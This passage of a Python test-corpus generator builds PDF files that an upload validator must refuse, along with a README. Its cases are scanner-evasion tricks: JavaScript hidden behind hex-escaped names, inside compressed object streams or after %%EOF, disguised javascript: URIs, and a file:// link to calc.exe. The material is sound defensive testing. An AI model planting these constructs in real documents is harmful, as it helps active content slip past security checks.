                annotation(b"/Subtype /Link /A << /S /GoToE /T << /R /C /N (doc) >> /D [0] >> ")
            ),
        ),
        Case(
            "xfa-form.pdf",
            "active_content",
            "an XFA form, scriptable XML",
            lambda: pdf_with(
                catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
                more={6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
            ),
        ),
        Case(
            "rich-media.pdf",
            "active_content",
            "a RichMedia (Flash) annotation",
            lambda: build_pdf(
                annotation(b"/Subtype /RichMedia /RichMediaContent << /Assets << >> >> ")
            ),
        ),
        Case(
            "obfuscated-js-name.pdf",
            "active_content",
            "/J#53 and /Java#53cript: /JS and /JavaScript written with hex escapes",
            lambda: pdf_with(catalog=b"/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> "),
        ),
        Case(
            "javascript-in-object-stream.pdf",
            "active_content",
            "the OpenAction script inside a compressed object stream, invisible in the raw bytes",
            lambda: build_pdf(objects(catalog=b"/OpenAction 6 0 R "), compressed={6: js}),
        ),
        Case(
            "obfuscated-js-in-object-stream.pdf",
            "active_content",
            "/J#53 inside a compressed object stream, where no byte scan can see it",
            lambda: build_pdf(
                objects(catalog=b"/OpenAction 6 0 R "),
                compressed={6: b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"},
            ),
        ),
        Case(
            "orphan-javascript-object.pdf",
            "active_content",
            "a compressed JavaScript action that nothing references, in the xref all the same",
            lambda: build_pdf(objects(), compressed={6: js}),
        ),
        Case(
            "javascript-after-eof.pdf",
            "active_content",
            "a JavaScript object appended after %%EOF, outside any cross-reference table",
            lambda: appended_after_eof(b"9 0 obj\n" + js + b"\nendobj\n"),
        ),
        Case(
            "uri-javascript-link.pdf",
            "active_content",
            "a link to a javascript: URI",
            lambda: build_pdf(
                annotation(b"/Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> ")
            ),
        ),
        Case(
            "uri-javascript-mixed-case.pdf",
            "active_content",
            "a javascript: URI written with spaces, a tab and mixed case",
            lambda: build_pdf(
                annotation(b"/Subtype /Link /A << /S /URI /URI ( JaVa\tScRiPt:alert(1)) >> ")
            ),
        ),
        Case(
            "uri-javascript-byte-string.pdf",
            "active_content",
            "a javascript: URI with a byte no text encoding maps, so that it stays raw bytes",
            lambda: build_pdf(
                annotation(
                    b"/Subtype /Link /A << /S /URI /URI <"
                    + b"javascript:alert(1)//\x9f".hex().encode()
                    + b"> >> "
                )
            ),
        ),
        Case(
            "uri-file-link.pdf",
            "active_content",
            "a link to a file: URI on the reader's computer",
            lambda: build_pdf(
                annotation(b"/Subtype /Link /A << /S /URI /URI (file:///C:/Windows/calc.exe) >> ")
            ),
        ),
        Case(
            "rendition-action.pdf",
            "active_content",
            "a rendition action, which plays media (and may carry JavaScript)",
            lambda: pdf_with(catalog=b"/OpenAction << /S /Rendition /OP 0 >> "),
        ),
        Case(
            "three-d-annotation.pdf",
            "active_content",
            "a 3D annotation, whose streams may carry JavaScript",
            lambda: build_pdf(annotation(b"/Subtype /3D ")),
        ),
        # Too long.
        Case(
            "501-pages.pdf",
            "too_many_pages",
            "one page over the limit of 500",
            lambda: many_pages(501),
        ),
    ]


CASES = _cases()

README_HEAD = """\
# Evidence files that must be refused

Every file here is refused by `outcomes.evidence.evidence_check` with the code in
`expected.json`; `tests/outcomes/test_evidence.py` checks each one. The name of each file is
the name it is uploaded under, so several are named to deceive (`windows-exe-as-photo.jpg`,
`x.jpg.php`): the check must go by content alone.

The files are written by `make_corpus.py` (deterministic, no network):

    .venv/bin/python tests/outcomes/corpus/make_corpus.py

Edit the list of cases there, never the files or `expected.json` by hand. The bombs are small
on disk and expand only when decoded. The `eicar-*` files carry the EICAR antivirus test string:
harmless, but an antivirus on a developer machine may quarantine them (regenerate them then).

Files that must be accepted (a valid PNG with HTML after its end, a JPEG with a PHP payload in
its EXIF, a PNG with GPS EXIF) are built by the tests themselves: they check what is stored.
So is a file one byte over the size limit, which would be 10 MB here.

The codes: `type` (not a PDF, JPEG or PNG by its content, or a PDF that is also a ZIP archive),
`malware` (a scanner named a threat), `corrupt` (cannot be read, or too complex to check
safely: bombs, loops, too many objects), `image_too_large` (over 40 million pixels),
`encrypted`, `active_content` (JavaScript, actions that reach outside the document, embedded
files, XFA, multimedia), `too_many_pages` (over 500).

| file | code | why it must be refused |
|---|---|---|
"""


def main() -> None:
    names = [case.filename for case in CASES]
    duplicates = {name for name in names if names.count(name) > 1}
    if duplicates:
        sys.exit(f"duplicate file names: {sorted(duplicates)}")
    keep = {*names, "make_corpus.py", "README.md", "expected.json"}
    for path in HERE.iterdir():
        if path.is_file() and path.name not in keep:
            path.unlink()
    rows = []
    for case in CASES:
        (HERE / case.filename).write_bytes(case.build())
        rows.append(f"| `{case.filename}` | {case.code} | {case.why} |\n")
    expected = {case.filename: case.code for case in CASES}
    (HERE / "expected.json").write_text(json.dumps(expected, indent=2, sort_keys=True) + "\n")
    (HERE / "README.md").write_text(README_HEAD + "".join(rows))
    total = sum((HERE / name).stat().st_size for name in names)
    print(f"{len(CASES)} files, {total:,} bytes")


if __name__ == "__main__":
    main()
